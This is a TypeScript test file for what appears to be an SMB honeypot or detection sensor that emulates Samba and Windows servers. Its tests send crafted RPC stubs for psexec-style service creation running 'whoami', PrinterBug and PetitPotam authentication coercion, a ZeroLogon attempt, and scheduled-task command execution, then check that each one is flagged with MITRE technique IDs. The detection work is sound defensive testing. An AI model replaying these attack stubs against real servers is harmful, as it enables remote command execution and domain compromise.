import { afterEach, describe, expect, it } from 'vitest';
import type { PlayedService } from '../../service/session.fixture.ts';
import { fileId } from '../smb-client.fixture.ts';
import { loggedIn, playSmb, USER } from '../smb-play.fixture.ts';
import { NdrReader, NdrWriter } from './ndr.ts';
import { pipe } from './rpc-client.fixture.ts';

let service: PlayedService;
afterEach(async () => {
  await service.close();
  if (service.failures.length > 0) throw new Error(service.failures.join('; '));
});

const calls = (): string[] =>
  service.events.flatMap(({ event, netsentinel }) =>
    event.action === 'smb-call' ? [netsentinel!.smb!.operation!] : [],
  );
const probes = (action: string) => service.events.filter(({ event }) => event.action === `smb-${action}`);

describe('remote procedures', () => {
  it('list the shares of a Samba to whoever asks', async () => {
    service = playSmb('debian-12-server');
    const call = await pipe(await loggedIn(service, { user: 'stranger', password: 'x' }), 'srvsvc');
    const stub = new NdrWriter()
      .uniqueString('\\\\x')
      .flush()
      .u32(1)
      .u32(1)
      .pointer(undefined)
      .u32(0xffff_ffff)
      .pointer(undefined);
    const text = (await call(15, stub.done())).toString('utf16le');
    for (const share of ['public', 'projects', 'backup', 'IPC$', 'nobody']) expect(text).toContain(share);
    expect(calls()).toEqual(['srvsvc:NetShareEnumAll']);
  });

  it('list the accounts', async () => {
    service = playSmb('windows-2019-fileserver');
    const call = await pipe(await loggedIn(service), 'samr');
    const connected = await call(57, new NdrWriter().pointer(undefined).u32(0x30).done());
    const handle = connected.subarray(0, 20);
    const domains = await call(6, new NdrWriter().raw(handle).u32(0).u32(0xffff).done());
    expect(domains.toString('utf16le')).toContain('Builtin');
    expect((await call(99, Buffer.alloc(20))).readUInt32LE(0)).toBe(0x1c00_001a);
    expect(calls()).toContain('samr:EnumDomains');
  });

  it('tell what psexec installs and starts, as an administrator may', async () => {
    service = playSmb('windows-2019-fileserver');
    const smb = await loggedIn(service, { user: 'Administrator' });
    const call = await pipe(smb, 'svcctl');
    const manager = (
      await call(15, new NdrWriter().pointer(undefined).pointer(undefined).u32(0xf003f).done())
    ).subarray(0, 20);
    const create = new NdrWriter()
      .raw(manager)
      .string('BTOBTO')
      .pointer(undefined)
      .u32(0xf01ff)
      .u32(0x10)
      .u32(3)
      .u32(0);
    const made = await call(12, create.string('%COMSPEC% /Q /c whoami').done());
    expect(made.readUInt32LE(24)).toBe(0);
    const started = await call(19, new NdrWriter().raw(made.subarray(4, 24)).u32(0).u32(0).done());
    expect(started.readUInt32LE(0)).toBe(1053);
    expect(calls()).toEqual(['svcctl:OpenSCManager', 'svcctl:CreateService', 'svcctl:StartService']);
    const line = service.events.find(({ event }) => event.action === 'smb-command');
    expect(line).toMatchObject({
      process: { command_line: '%COMSPEC% /Q /c whoami' },
      threat: { technique: { id: ['T1569.002', 'T1059.003'] } },
    });
  });

  it('refuse services to others', async () => {
    service = playSmb('windows-2019-fileserver');
    const call = await pipe(await loggedIn(service, { user: USER }), 'svcctl');
    const answer = await call(15, new NdrWriter().pointer(undefined).pointer(undefined).u32(0xf003f).done());
    expect(answer.readUInt32LE(20)).toBe(5);
  });

  it.each([
    [
      'spoolss',
      65,
      () => new NdrWriter().raw(Buffer.alloc(20)).u32(0).u32(0).uniqueString('\\\\198.51.100.9').flush().u32(0),
      'RemoteFindFirstPrinterChangeNotifyEx',
    ],
    ['lsarpc', 0, () => new NdrWriter().string('\\\\198.51.100.9\\x\\y').u32(0), 'EfsRpcOpenFileRaw'],
  ] as const)('tell who is to be made to log in where: %s', async (name, opnum, stub, operation) => {
    service = playSmb('windows-2019-fileserver');
    const call = await pipe(await loggedIn(service), name);
    await call(opnum, stub().done());
    expect(probes('coercion')[0]?.message).toContain(operation);
    expect(probes('coercion')[0]?.message).toContain('198.51.100.9');
    expect(probes('coercion')[0]?.threat?.technique?.id).toEqual(['T1187']);
  });

  it('know ZeroLogon by its zeros', async () => {
    service = playSmb('windows-2019-fileserver');
    const call = await pipe(await loggedIn(service), 'netlogon');
    const zeros = Buffer.alloc(8);
    await call(4, new NdrWriter().pointer(undefined).string('DC01').raw(zeros).done());
    const stub = new NdrWriter().pointer(undefined).string('DC01$').u16(6).string('DC01').raw(zeros).u32(0x212f_ffff);
    const answer = await call(26, stub.done());
    expect(answer.readUInt32LE(16)).toBe(0xc000_0022);
    expect(probes('zerologon-exploit')[0]?.netsentinel?.smb?.cve).toEqual(['CVE-2020-1472']);
  });

  it('tell what a task would run', async () => {
    service = playSmb('windows-2019-fileserver');
    const call = await pipe(await loggedIn(service, { user: 'Administrator' }), 'atsvc');
    const xml = '<Task><Exec><Command>cmd.exe</Command><Arguments>/C whoami &gt; x</Arguments></Exec></Task>';
    await call(1, new NdrWriter().uniqueString('\\abc').flush().string(xml).done());
    const line = service.events.find(({ event }) => event.action === 'smb-command');
    expect(line?.process?.command_line).toBe('cmd.exe /C whoami > x');
  });

  it('end a pipe that is spoken to in another language', async () => {
    service = playSmb('debian-12-server');
    const smb = await loggedIn(service);
    await smb.tree('IPC$');
    const id = fileId(await smb.create('srvsvc'));
    const answer = await smb.ioctl(id, 0x0011_c017, Buffer.from('this is no remote procedure call'));
    expect(answer?.status).toBe(0xc000_00b0);
  });
});

it('NDR reads what it writes, and says when something is missing', () => {
  service = playSmb('debian-12-server');
  const bytes = new NdrWriter().u16(7).uniqueString('text').unicodeString('name').done();
  const reader = new NdrReader(bytes);
  expect(reader.u16()).toBe(7);
  expect([reader.u32() !== 0, reader.unicodeHead(), reader.string()]).toEqual([true, true, 'text']);
  const cut = new NdrReader(bytes.subarray(0, 9));
  cut.u16();
  cut.u32();
  expect([cut.string(), cut.ok]).toEqual(['', false]);
});
